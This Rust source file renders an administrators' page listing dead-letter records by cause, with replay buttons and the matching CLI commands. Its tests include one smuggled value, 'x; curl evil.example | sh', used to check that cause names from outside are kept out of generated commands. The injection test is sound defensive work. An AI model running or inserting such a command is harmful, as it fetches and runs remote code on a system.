//! `/feedback/dead-letters`: records that could not be stored, and buttons that put them back. For
//! administrators alone, because the records are of all tenants. What they hold is not shown.

use std::cmp::Reverse;
use std::collections::BTreeSet;

use axum::extract::State;
use edge::Problem;
use edge::query::Query;
use maud::{Markup, html};
use serde::Deserialize;
use serde_json::{Map, Value, json};
use time::OffsetDateTime;

use crate::api::dead_letters::Asked;
use crate::dead_letters::{Count, Letter, Listed};
use crate::fields::filled;
use crate::page::layout::{Action, Input, Page, Region, Shown, button, dialogs, table, text};
use crate::page::site::Site;
use crate::page::viewer::Viewer;
use crate::page::words::{clock, count};

const PATH: &str = "/feedback/dead-letters";
/// Springtide has five. Another program that writes to the topic may have others.
const CAUSES_MAX: usize = 20;
/// Its records are made from rows, and go back by no button.
const ORPHAN: &str = "orphan";
const AFTERWARDS: &str =
    "Rows that are already stored do not change. A record whose cause is not gone becomes a new dead letter.";

/// The filter. An empty field of the form is none.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Filter {
    #[serde(deserialize_with = "filled")]
    cause: Option<String>,
    /// Default: only those that were not put back.
    #[serde(deserialize_with = "filled")]
    open: Option<bool>,
}

/// A line of the first table.
struct Cause<'a> {
    name: &'a str,
    count: Count,
    action: Option<Action>,
}

/// A line of the second one.
struct Line<'a> {
    letter: &'a Letter,
    action: Option<Action>,
}

pub async fn page(State(site): State<Site>, viewer: Viewer, Query(filter): Query<Filter>) -> Result<Shown, Problem> {
    let asked = Asked {
        cause: filter.cause,
        open: filter.open.unwrap_or(true),
        ..Asked::default()
    };
    let listed = site.dead_letters().newest(&asked).await?;
    let (causes, letters) = (causes(&listed), letters(&listed));
    let [command, request] = sources(&asked);
    let regions = [
        Region {
            id: "causes",
            title: "By cause",
            body: html! { (counted(&causes)) (left_out(&listed)) },
            sources: vec!["GET /v1/dead-letters   (causes)".into()],
        },
        Region {
            id: "letters",
            title: "Newest first",
            body: shown(&letters, listed.matching, OffsetDateTime::now_utc()),
            sources: vec![command, request],
        },
    ];
    let of_causes = causes.iter().filter_map(|cause| cause.action.as_ref());
    let of_letters = letters.iter().filter_map(|letter| letter.action.as_ref());
    let page = Page {
        title: "Dead letters",
        section: "/feedback",
        lead: html! { "Records that could not be stored, of all tenants: why, and where they are from. Not what they hold." },
        live: None,
        top: form(&asked, &listed),
        regions: &regions,
        bottom: html! { (dialogs(of_causes.chain(of_letters))) (commands()) },
    };
    Ok(page.show(&site, &viewer))
}

/// The command and the request that give the same list.
fn sources(asked: &Asked) -> [String; 2] {
    let (mut command, mut request) = ("springtide dlq list".to_owned(), "GET /v1/dead-letters".to_owned());
    request += &format!("?open={}", asked.open);
    if asked.open {
        command += " --open";
    }
    if let Some(cause) = asked.cause.as_deref().filter(|cause| is_plain(cause)) {
        command += &format!(" --cause {cause}");
        request += &format!("&cause={cause}");
    }
    [command, request]
}

/// Whether it can stand in a command. Whoever writes to the topic chooses the text.
fn is_plain(cause: &str) -> bool {
    !cause.is_empty() && cause.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_')
}

/// Those with the most open records first.
fn causes(listed: &Listed) -> Vec<Cause<'_>> {
    let mut causes: Vec<Cause<'_>> = listed
        .causes
        .iter()
        .map(|(name, count)| Cause {
            name,
            count: *count,
            action: put_back_cause(name, *count),
        })
        .collect();
    causes.sort_by_key(|cause| Reverse((cause.count.open, cause.count.all)));
    causes.truncate(CAUSES_MAX);
    causes
}

fn letters(listed: &Listed) -> Vec<Line<'_>> {
    let letters = listed.records.iter().map(|letter| Line {
        letter,
        action: put_back(letter),
    });
    letters.collect()
}

fn put_back_cause(cause: &str, count: Count) -> Option<Action> {
    (count.open > 0 && cause != ORPHAN && is_plain(cause)).then(|| {
        action(
            format!("put-{cause}"),
            format!("Put back all ({cause})"),
            format!(
                "Open records of the cause {cause}: {}. They go back to their topics as they are, the oldest first, at most 1,000 at \
                 a time. Those that cannot go back stay here. {AFTERWARDS}",
                count.open
            ),
            ("cause", cause.into()),
            format!("springtide dlq replay --cause {cause}"),
        )
    })
}

/// `None`: only a repaired event can take its place.
fn put_back(of: &Letter) -> Option<Action> {
    let topic = of.topic.as_ref().filter(|_| of.shortened_from_bytes.is_none())?;
    let again = of.replayed.as_ref().map_or("", |_| " again");
    let letter = &of.letter;
    Some(action(
        format!("put-{}", letter.replace('/', "-")),
        format!("Put back {letter}{again}"),
        format!("The record goes back to {topic} as it is{again}. {AFTERWARDS}"),
        ("records", json!([letter])),
        format!("springtide dlq replay {letter}"),
    ))
}

fn action(id: String, button: String, does: String, (field, value): (&str, Value), command: String) -> Action {
    Action {
        id,
        button,
        does,
        path: "/v1/dead-letters/replay".into(),
        fixed: Map::from_iter([(field.to_owned(), value)]),
        inputs: vec![Input::reason()],
        command,
        dangerous: false,
    }
}

fn form(asked: &Asked, listed: &Listed) -> Markup {
    let causes: BTreeSet<&str> = listed
        .causes
        .keys()
        .map(String::as_str)
        .chain(asked.cause.as_deref())
        .collect();
    html! {
        form .filter method="get" action=(PATH) {
            div {
                label for="cause" { "Cause" }
                select id="cause" name="cause" {
                    option value="" { "any" }
                    @for cause in causes {
                        option value=(cause) selected[asked.cause.as_deref() == Some(cause)] { (cause) }
                    }
                }
            }
            div {
                label for="open" { "Which" }
                select id="open" name="open" {
                    option value="true" selected[asked.open] { "not put back yet" }
                    option value="false" selected[!asked.open] { "all" }
                }
            }
            button { "Show" }
        }
    }
}

fn counted(causes: &[Cause<'_>]) -> Markup {
    let number = |number: u64| text(count(i64::try_from(number).unwrap_or(i64::MAX)));
    let cells: Vec<Vec<Markup>> = causes
        .iter()
        .map(|cause| {
            vec![
                html! { b { (cause.name) } },
                number(cause.count.open),
                number(cause.count.all),
                html! {
                    @match &cause.action {
                        Some(action) => (button(action)),
                        None if cause.name == ORPHAN && cause.count.open > 0 => span .long { "wait for their generations" },
                        None => "–",
                    }
                },
            ]
        })
        .collect();
    let head = ["cause", "not put back", "all", "action"];
    table("By cause", &head, &cells, "The queue has no records.")
}

fn left_out(listed: &Listed) -> Markup {
    html! {
        @if listed.truncated {
            p .note { "Only the newest records of each partition were read. " code { "springtide dlq list" } " reads all." }
        }
    }
}

fn shown(letters: &[Line<'_>], matching: usize, now: OffsetDateTime) -> Markup {
    let cells: Vec<Vec<Markup>> = letters.iter().map(|letter| line(letter, now)).collect();
    let head = ["record", "at (UTC)", "cause", "from", "event", "detail", "action"];
    html! {
        (table("Dead letters", &head, &cells, "No record matches."))
        @if matching > letters.len() {
            p .note {
                "The newest " (letters.len()) " of " (matching) ". " code { "springtide dlq list --limit" } " shows more."
            }
        }
    }
}

fn line(line: &Line<'_>, now: OffsetDateTime) -> Vec<Markup> {
    let letter = line.letter;
    let word = |text: &Option<String>| text.clone().unwrap_or_default();
    vec![
        html! { code { (letter.letter) } },
        html! { @match letter.time { Some(at) => (clock(at, now)), None => "–" } },
        text(&letter.reason),
        text(letter.from()),
        html! {
            @if let Some(kind) = letter.kind {
                span .long { (kind) " of " (word(&letter.tenant)) ": " (word(&letter.source)) " " (word(&letter.id)) }
            } @else { "no event" }
        },
        html! {
            span .long {
                (letter.detail)
                @if letter.shortened_from_bytes.is_some() { " (shortened)" }
                @if let Some(replayed) = &letter.replayed {
                    b { " put back" }
                    @if let Some(at) = replayed.time { " " (clock(at, now)) }
                    @if replayed.edited { ", repaired" }
                }
            }
        },
        html! {
            @match &line.action {
                Some(action) => (button(action)),
                None if letter.topic.is_none() => span .long { "waits for its generation" },
                None => code { "springtide dlq replay " (letter.letter) " --edit FILE" },
            }
        },
    ]
}

fn commands() -> Markup {
    html! {
        section aria-labelledby="commands-title" {
            h2 #commands-title { "What only commands do" }
            ul .commands {
                li { "look at a record (it may contain user text): " code { "springtide dlq show RECORD" } }
                li { "put a repaired event in its place: " code { "springtide dlq replay RECORD --edit FILE" } }
                li { "read all of a long queue: " code { "springtide dlq list" } }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dead_letters::letter::Replayed;
    use time::macros::datetime;

    const NOW: OffsetDateTime = datetime!(2026-11-26 03:00 UTC);

    fn letter(name: &str) -> Letter {
        Letter {
            letter: name.into(),
            time: Some(datetime!(2026-11-26 02:59 UTC)),
            reason: "invalid".into(),
            topic: Some("t.feedback.v1".into()),
            partition: Some(1),
            offset: Some(7),
            kind: Some("feedback"),
            tenant: Some("<tenant>".into()),
            source: Some("app".into()),
            id: Some("e-1".into()),
            detail: "value: <is> missing".into(),
            shortened_from_bytes: None,
            replayed: None,
        }
    }

    fn listed(records: Vec<Letter>, causes: &[(&str, u64, u64)]) -> Listed {
        let counts = causes
            .iter()
            .map(|(cause, all, open)| ((*cause).to_owned(), Count { all: *all, open: *open }));
        Listed {
            matching: records.len(),
            records,
            causes: counts.collect(),
            truncated: false,
        }
    }

    #[test]
    fn a_record_is_shown_with_why_and_a_button_that_says_what_it_does() {
        let listed = listed(vec![letter("0/17")], &[]);
        let letters = letters(&listed);
        let page = shown(&letters, 3, NOW).into_string();
        for part in [
            "0/17",
            "02:59:00",
            "t.feedback.v1/1/7",
            "feedback of &lt;tenant&gt;: app e-1",
            "value: &lt;is&gt; missing",
            "data-dialog=\"put-0-17\"",
            "The newest 1 of 3",
        ] {
            assert!(page.contains(part), "{part}: {page}");
        }
        let action = letters[0].action.as_ref().unwrap();
        assert_eq!(Value::Object(action.fixed.clone()), json!({"records": ["0/17"]}));
        let dialog = dialogs([action]).into_string();
        for part in [
            "goes back to t.feedback.v1 as it is.",
            "data-post=\"/v1/dead-letters/replay\"",
            "springtide dlq replay 0/17",
            "name=\"reason\"",
        ] {
            assert!(dialog.contains(part), "{part}: {dialog}");
        }
    }

    #[test]
    fn what_cannot_go_back_has_no_button() {
        let of_row = Letter {
            topic: None,
            ..letter("0/1")
        };
        let shortened = Letter {
            shortened_from_bytes: Some(2_000_000),
            ..letter("0/2")
        };
        let replayed = Letter {
            replayed: Some(Replayed {
                time: None,
                topic: None,
                partition: None,
                offset: None,
                edited: true,
            }),
            ..letter("0/3")
        };
        let listed = listed(vec![of_row, shortened, replayed], &[]);
        let page = shown(&letters(&listed), 3, NOW).into_string();
        assert_eq!(page.matches("<button").count(), 1, "{page}");
        for part in [
            "waits for its generation",
            "(shortened)",
            "springtide dlq replay 0/2 --edit FILE",
            "Put back 0/3 again",
            ", repaired",
        ] {
            assert!(page.contains(part), "{part}: {page}");
        }
    }

    #[test]
    fn causes_have_a_button_if_records_wait_and_their_name_is_one_of_ours() {
        let strange = "x; curl evil.example | sh";
        let listed = listed(
            Vec::new(),
            &[
                ("invalid", 9, 1234),
                ("conflict", 2, 0),
                (ORPHAN, 3, 3),
                (strange, 1, 1),
            ],
        );
        let causes = causes(&listed);
        assert_eq!(causes[0].name, "invalid");
        let page = counted(&causes).into_string();
        assert!(
            page.contains("1,234") && page.contains("wait for their generations"),
            "{page}"
        );
        assert_eq!(page.matches("<button").count(), 1, "{page}");
        let action = causes[0].action.as_ref().unwrap();
        assert_eq!(Value::Object(action.fixed.clone()), json!({"cause": "invalid"}));
        assert_eq!(action.command, "springtide dlq replay --cause invalid");
        let asked = Asked {
            cause: Some(strange.to_owned()),
            ..Asked::default()
        };
        assert_eq!(
            sources(&asked),
            ["springtide dlq list", "GET /v1/dead-letters?open=false"]
        );
        assert!(
            form(&asked, &listed)
                .into_string()
                .contains("curl evil.example | sh\" selected")
        );
    }

    #[test]
    fn an_empty_queue_says_so_and_the_form_keeps_what_was_chosen() {
        let listed = Listed {
            truncated: true,
            ..Listed::default()
        };
        assert!(
            counted(&causes(&listed))
                .into_string()
                .contains("The queue has no records.")
        );
        assert!(left_out(&listed).into_string().contains("Only the newest"));
        let asked = Asked {
            cause: Some("invalid".to_owned()),
            open: true,
            ..Asked::default()
        };
        let form = form(&asked, &listed).into_string();
        assert!(
            form.contains("value=\"invalid\" selected") && form.contains("value=\"true\" selected"),
            "{form}"
        );
        assert_eq!(
            sources(&asked),
            [
                "springtide dlq list --open --cause invalid",
                "GET /v1/dead-letters?open=true&cause=invalid"
            ]
        );
    }
}
